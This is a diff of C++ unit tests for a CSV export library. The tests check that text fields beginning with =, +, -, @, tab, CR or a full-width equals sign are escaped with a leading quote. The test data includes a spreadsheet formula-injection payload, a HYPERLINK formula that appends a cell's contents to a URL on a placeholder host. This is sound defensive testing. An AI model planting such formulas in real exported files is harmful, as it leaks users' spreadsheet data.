@@ -36,6 +36,26 @@ INSTANTIATE_TEST_SUITE_P(
                       FieldCase{"一\n二", "\"一\n二\""}, FieldCase{"一\r\n二", "\"一\r\n二\""},
                       FieldCase{"cr\r", "\"cr\r\""}, FieldCase{"'quote' ; tab\t", "'quote' ; tab\t"}));
 
+class CsvTextFieldTest : public ::testing::TestWithParam<FieldCase> {};
+
+TEST_P(CsvTextFieldTest, NeverRunsAsAFormulaInASpreadsheet) {
+    EXPECT_EQ(csv::textField(GetParam().text), GetParam().field);
+}
+
+INSTANTIATE_TEST_SUITE_P(Owasp, CsvTextFieldTest,
+                         ::testing::Values(FieldCase{"=HYPERLINK(\"http://x/?\"&A1,\"見る\")",
+                                                     "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"見る\"\")\""},
+                                           FieldCase{"+81-3", "\"'+81-3\""}, FieldCase{"-500", "\"'-500\""},
+                                           FieldCase{"@SUM(A1)", "\"'@SUM(A1)\""},
+                                           FieldCase{"\tタブ", "\"'\tタブ\""}, FieldCase{"\r=1", "\"'\r=1\""},
+                                           FieldCase{"ﾌｧﾐﾘｰﾏｰﾄ", "ﾌｧﾐﾘｰﾏｰﾄ"}, FieldCase{"a=b", "a=b"},
+                                           FieldCase{"", ""}, FieldCase{"＝全角", "\"'＝全角\""}));
+
+TEST(CsvDocumentTest, NumberColumnsKeepTheirSign) {
+    EXPECT_EQ(csv::document({"詳細", "金額"}, {{"-返金", "-500"}}, {1}),
+              kBom + "詳細,金額\r\n\"'-返金\",-500\r\n");
+}
+
 TEST(CsvDocumentTest, StartsWithTheByteOrderMarkAndEndsEveryRecordWithCrLf) {
     EXPECT_EQ(csv::document({"日付", "金額"}, {{"2006/04/05", "2000"}, {"", ""}, {"a,b", "0.3"}}),
               kBom + "日付,金額\r\n2006/04/05,2000\r\n,\r\n\"a,b\",0.3\r\n");
